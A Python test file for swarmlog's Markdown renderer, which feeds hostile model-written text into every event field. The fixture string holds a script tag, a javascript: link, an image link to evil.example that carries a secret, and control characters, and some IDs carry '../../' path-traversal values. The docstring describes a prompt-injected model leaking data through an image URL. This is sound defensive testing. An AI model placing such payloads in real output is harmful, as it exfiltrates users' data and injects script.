"""Every rendered file stays well-formed Markdown whatever agents and models wrote (audit 4).

Each text field a model can fill gets Markdown that breaks tables (pipes, newlines, a line of
---), code fences, HTML and script tags, links and images (a previewer fetches an image's URL:
``![x](https://host/?secret)`` leaks what a prompt-injected model put in it), control characters,
a 1 MB rationale. The files must keep every table's columns, close every fence, hold no raw HTML,
link, image or control character, and name files only under alerts/ and memory/.
"""

from __future__ import annotations

import re
from pathlib import Path

from swarmlog.events import (
    AgentRegistered,
    AgentStatusChanged,
    AlertRaised,
    CheckpointWritten,
    DecisionMade,
    EscalationRaised,
    Event,
    ModelCallFinished,
    Note,
    PhaseCompleted,
    PhaseEntered,
    RunEnded,
    RunStarted,
    TaskCompleted,
    TaskFailed,
    TaskStarted,
    TaskSubmitted,
    TrustChanged,
)
from swarmlog.log import FileLog
from tests.cli_helpers import run

H = (
    "a|b\n---\n| x | y |\n`tick` ```fence``` <script>alert(1)</script> <img src=x> &lt; "
    "![x](https://evil.example/p.png?d=secret) [l](javascript:alert(1)) [r]: https://e.example "
    "\\| \x1b[31mred\x00 # not a heading"
)
T0 = 1_800_000_000.0
LINK = re.compile(r"(?<!\\)\[[^\]\n]*\]\(|(?<!\\)\[[^\]\n]*\]:")
HTML = re.compile(r"<[A-Za-z/!]")
FENCE = re.compile(r"^(`{3,}|~{3,})")


def _hostile_night(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    log = FileLog(ws / "memory" / "events", sync="none")
    r = "night|" + H
    tid = "../../T1|" + H
    events: list[Event] = [
        RunStarted(ts=T0, run=r, goal=H),
        PhaseEntered(ts=T0 + 1, run=r, phase="planning" + H),
        AgentRegistered(ts=T0 + 1, run=r, agent="builder/../" + H, role="builder"),
        TaskSubmitted(ts=T0 + 2, run=r, task_id=tid, title=H, role="builder"),
        TaskStarted(ts=T0 + 3, run=r, task_id=tid, agent="builder/../" + H),
        AgentStatusChanged(
            ts=T0 + 3, run=r, agent="builder/../" + H, status="busy" + H, task_id=tid
        ),
        TaskCompleted(ts=T0 + 9, run=r, task_id=tid, agent="builder/../" + H, summary=H),
        TaskSubmitted(ts=T0 + 10, run=r, task_id="F|" + H, title=H, role=H),
        TaskFailed(ts=T0 + 11, run=r, task_id="F|" + H, agent="b", error=H, retryable=False),
        DecisionMade(
            ts=T0 + 12, run=r, decision_id="D|" + H, subject=H, outcome=H, rule=H,
            rationale="x" * 1_000_000 + "\n```\n" + H, dissent=(H,), controversy=H,
        ),
        DecisionMade(
            ts=T0 + 13, run=r, decision_id="D2", subject=H, outcome=H, rule="r", rationale=H,
            pending=True,
        ),
        TrustChanged(ts=T0 + 14, run=r, agent="builder" + H, old=7, new=8, reason=H),
        EscalationRaised(
            ts=T0 + 15, run=r, escalation_id="../E|" + H, level=3, rule=H, reason=H, agent=H,
            task_id=tid,
        ),
        AlertRaised(
            ts=T0 + 16, run=r, alert_id="../../A|" + H, level=3, rule=H, title=H, summary=H,
            actions=(H,), advice=(H,), escalation_id="../E|" + H,
        ),
        ModelCallFinished(ts=T0 + 17, run=r, model="m|" + H, total_ms=10, task_id=tid),
        CheckpointWritten(
            ts=T0 + 18, run=r, checkpoint_id="C1", trigger=H, summary=H, next_trigger=H
        ),
        Note(ts=T0 + 19, run=r, actor=H, text=H),
        PhaseCompleted(ts=T0 + 20, run=r, phase="planning" + H, outcome=H),
        RunEnded(ts=T0 + 21, run=r, outcome=H, reason=H),
    ]  # fmt: skip
    log.append(events)
    log.close()
    return ws


def _outside_code_spans(line: str) -> str:
    """The line without its code spans (CommonMark: their content is shown as typed)."""
    out, i = [], 0
    while i < len(line):
        ch = line[i]
        if ch == "\\":  # an escaped character is literal, a backtick too
            out.append(line[i : i + 2])
            i += 2
            continue
        if ch == "`":
            run = len(line[i:]) - len(line[i:].lstrip("`"))
            closer = re.compile(r"(?<!`)" + "`" * run + r"(?!`)")
            m = closer.search(line, i + run)
            if m:
                out.append(" ")
                i = m.end()
                continue
            out.append("`" * run)
            i += run
            continue
        out.append(ch)
        i += 1
    return "".join(out)


def _check(path: Path) -> None:
    lines = path.read_text(encoding="utf-8").split("\n")
    fence = ""
    columns = 0
    for n, line in enumerate(lines, 1):
        where = f"{path.name}:{n}: {line[:120]!r}"
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", line), where
        m = FENCE.match(line)
        if fence:
            if m and line.strip() == fence[0] * len(line.strip()) and len(line) >= len(fence):
                fence = ""
            continue
        if m:
            fence = m.group(1)
            continue
        text = _outside_code_spans(line)
        assert not HTML.search(text), where
        assert not LINK.search(text), where
        if line.startswith("|"):
            cells = len(re.findall(r"(?<!\\)\|", line))
            if n < len(lines) and re.fullmatch(r"\|[-| ]+\|", lines[n]):
                columns = cells  # a header row: the next line is the delimiter row
            assert cells == columns, where
        else:
            columns = 0
    assert not fence, f"{path.name}: a fence is never closed"


def test_every_file_stays_well_formed(tmp_path: Path) -> None:
    ws = _hostile_night(tmp_path)
    assert run(ws, "render") == 0
    written = sorted(p.relative_to(ws).as_posix() for p in ws.rglob("*.md"))
    assert written == [
        "alerts/ALERT-20270115T080016Z-14.md",
        "memory/decisions.md",
        "memory/emergency.md",
        "memory/report.md",
        "memory/team-state.md",
    ]
    assert not list(tmp_path.glob("*.md")) and not (tmp_path / "A|").exists()
    for rel in written:
        _check(ws / rel)
    assert len((ws / "memory" / "decisions.md").read_bytes()) < 100_000  # the rationale is cut


def _heading_text(line: str) -> str:
    """An ATX heading's text as CommonMark reads it: the closing '#'s dropped, escapes read."""
    content = re.sub(r"^#{1,6}[ \t]+", "", line)
    content = re.sub(r"(^|[ \t]+)#+[ \t]*$", "", content)
    return re.sub(r"\\(.)", r"\1", content)


def test_a_heading_keeps_a_trailing_hash(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    log = FileLog(ws / "memory" / "events", sync="none")
    log.append(
        [
            RunStarted(ts=T0, run="fix issue #", goal="g"),
            DecisionMade(
                ts=T0 + 1, run="fix issue #", decision_id="D1", subject="ship it ##",
                outcome="o", rule="r",
            ),
        ]
    )  # fmt: skip
    log.close()
    assert run(ws, "render") == 0
    team = (ws / "memory" / "team-state.md").read_text().splitlines()
    assert _heading_text(team[0]) == "Team State: fix issue #"
    decisions = (ws / "memory" / "decisions.md").read_text().splitlines()
    headings = [_heading_text(x) for x in decisions if x.startswith("#")]
    assert "Night fix issue #" in headings
    assert any(h.endswith(" · ship it ##") for h in headings), headings
